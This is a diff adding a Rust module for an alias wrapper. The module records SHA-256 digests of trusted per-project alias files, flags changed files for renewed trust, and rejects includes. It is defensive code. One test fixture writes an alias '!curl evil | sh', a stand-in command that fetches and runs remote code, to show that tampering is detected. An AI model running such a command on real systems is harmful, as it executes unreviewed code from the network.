@@ -0,0 +1,201 @@
+use std::env;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use sha2::{Digest, Sha256};
+use toml::Value;
+
+use crate::config::parse_value;
+
+const PROJECT_DIR: &str = ".alias";
+const STORE_FILE: &str = "trusted";
+
+// The nearest one wins, the way the nearest .gitignore does: a repository
+// inside another one is a project of its own.
+pub fn find_project_file(start: &Path, program_name: &str) -> Option<PathBuf> {
+    let file_name = format!("{}.toml", program_name);
+    start
+        .ancestors()
+        .map(|directory| directory.join(PROJECT_DIR).join(&file_name))
+        .find(|candidate| candidate.is_file())
+}
+
+// The directory .alias is in, which is what the paths in a project file are
+// relative to.
+pub fn project_root(file: &Path) -> Option<&Path> {
+    file.parent()?.parent()
+}
+
+// Kept per user rather than next to the wrapper: trusting a file is a decision
+// of whoever runs it, and the directory of the wrapper may well be shared, or
+// not writable at all.
+pub fn store_path() -> Option<PathBuf> {
+    let data_dir = if cfg!(windows) {
+        env::var_os("LOCALAPPDATA").map(PathBuf::from)
+    } else {
+        env::var_os("XDG_DATA_HOME")
+            .filter(|value| !value.is_empty())
+            .map(PathBuf::from)
+            .or_else(|| {
+                env::var_os("HOME").map(|home| PathBuf::from(home).join(".local").join("share"))
+            })
+    };
+    data_dir.map(|directory| directory.join("alias").join(STORE_FILE))
+}
+
+fn digest(contents: &[u8]) -> String {
+    Sha256::digest(contents)
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect()
+}
+
+fn identity(file: &Path) -> PathBuf {
+    fs::canonicalize(file).unwrap_or_else(|_| file.to_path_buf())
+}
+
+// One line per file: the digest of what was trusted, then the path. The path
+// goes last so that a space in it needs no quoting.
+fn read_store(store: &Path) -> Vec<(String, PathBuf)> {
+    fs::read_to_string(store)
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|line| line.split_once(' '))
+        .map(|(hash, path)| (hash.to_string(), PathBuf::from(path)))
+        .collect()
+}
+
+#[derive(Debug, PartialEq)]
+pub enum Trust {
+    Trusted,
+    Unknown,
+    Changed,
+}
+
+// What has been trusted is the content, not the name: anyone who can push to
+// the repository can change the file, and a changed file is asked about again.
+pub fn trust_of(file: &Path, contents: &[u8], store: &Path) -> Trust {
+    let identity = identity(file);
+    match read_store(store)
+        .into_iter()
+        .find(|(_, path)| path == &identity)
+    {
+        Some((hash, _)) if hash == digest(contents) => Trust::Trusted,
+        Some(_) => Trust::Changed,
+        None => Trust::Unknown,
+    }
+}
+
+pub fn trust(file: &Path, store: &Path) -> Result<(), String> {
+    let contents =
+        fs::read(file).map_err(|e| format!("[ERROR] Cannot read {}: {}", file.display(), e))?;
+    let identity = identity(file);
+
+    let mut lines: Vec<String> = read_store(store)
+        .into_iter()
+        .filter(|(_, path)| path != &identity)
+        .map(|(hash, path)| format!("{} {}", hash, path.display()))
+        .collect();
+    lines.push(format!("{} {}", digest(&contents), identity.display()));
+
+    let written = store
+        .parent()
+        .map_or(Ok(()), fs::create_dir_all)
+        .and_then(|_| fs::write(store, lines.join("\n") + "\n"));
+    written.map_err(|e| format!("[ERROR] Cannot write {}: {}", store.display(), e))
+}
+
+// Only the bytes that were trusted are read: an include would pull in files
+// nobody has looked at.
+pub fn parse(file: &Path, contents: &[u8]) -> Result<Value, String> {
+    let contents = String::from_utf8_lossy(contents);
+    let value = parse_value(&contents, file)?;
+    for key in ["include", "include_if"] {
+        if value.get(key).is_some() {
+            return Err(format!(
+                "[ERROR] {}: '{}' is not read from a project file, only what has been trusted is",
+                file.display(),
+                key
+            ));
+        }
+    }
+    Ok(value)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_nearest_project_file_for_the_program_is_found() {
+        let directory = tempfile::tempdir().unwrap();
+        let outer = directory.path().join(PROJECT_DIR).join("docker.toml");
+        let inner = directory
+            .path()
+            .join("app")
+            .join(PROJECT_DIR)
+            .join("docker.toml");
+        let deep = directory.path().join("app").join("src").join("bin");
+        fs::create_dir_all(inner.parent().unwrap()).unwrap();
+        fs::create_dir_all(outer.parent().unwrap()).unwrap();
+        fs::create_dir_all(&deep).unwrap();
+        fs::write(&outer, "").unwrap();
+        fs::write(&inner, "").unwrap();
+
+        assert_eq!(Some(inner), find_project_file(&deep, "docker"));
+        assert_eq!(Some(outer), find_project_file(directory.path(), "docker"));
+        assert_eq!(None, find_project_file(&deep, "git"));
+    }
+
+    #[test]
+    fn a_trusted_file_stays_trusted_until_it_changes() {
+        let directory = tempfile::tempdir().unwrap();
+        let file = directory.path().join("docker.toml");
+        let store = directory.path().join("store").join(STORE_FILE);
+        fs::write(&file, "[alias]\nup = \"compose up\"\n").unwrap();
+
+        assert_eq!(
+            Trust::Unknown,
+            trust_of(&file, &fs::read(&file).unwrap(), &store)
+        );
+
+        trust(&file, &store).unwrap();
+        assert_eq!(
+            Trust::Trusted,
+            trust_of(&file, &fs::read(&file).unwrap(), &store)
+        );
+
+        fs::write(&file, "[alias]\nup = \"!curl evil | sh\"\n").unwrap();
+        assert_eq!(
+            Trust::Changed,
+            trust_of(&file, &fs::read(&file).unwrap(), &store)
+        );
+    }
+
+    #[test]
+    fn trusting_a_file_again_replaces_what_was_trusted_before() {
+        let directory = tempfile::tempdir().unwrap();
+        let file = directory.path().join("docker.toml");
+        let other = directory.path().join("git.toml");
+        let store = directory.path().join(STORE_FILE);
+        fs::write(&file, "").unwrap();
+        fs::write(&other, "").unwrap();
+        trust(&file, &store).unwrap();
+        trust(&other, &store).unwrap();
+
+        fs::write(&file, "[alias]\n").unwrap();
+        trust(&file, &store).unwrap();
+
+        assert_eq!(2, read_store(&store).len());
+        assert_eq!(Trust::Trusted, trust_of(&file, b"[alias]\n", &store));
+        assert_eq!(Trust::Trusted, trust_of(&other, b"", &store));
+    }
+
+    #[test]
+    fn a_project_file_cannot_include_other_files() {
+        let error = parse(Path::new("docker.toml"), b"include = [\"more.toml\"]\n")
+            .expect_err("an include is not trusted");
+
+        assert!(error.contains("'include'"), "unexpected error: {}", error);
+    }
+}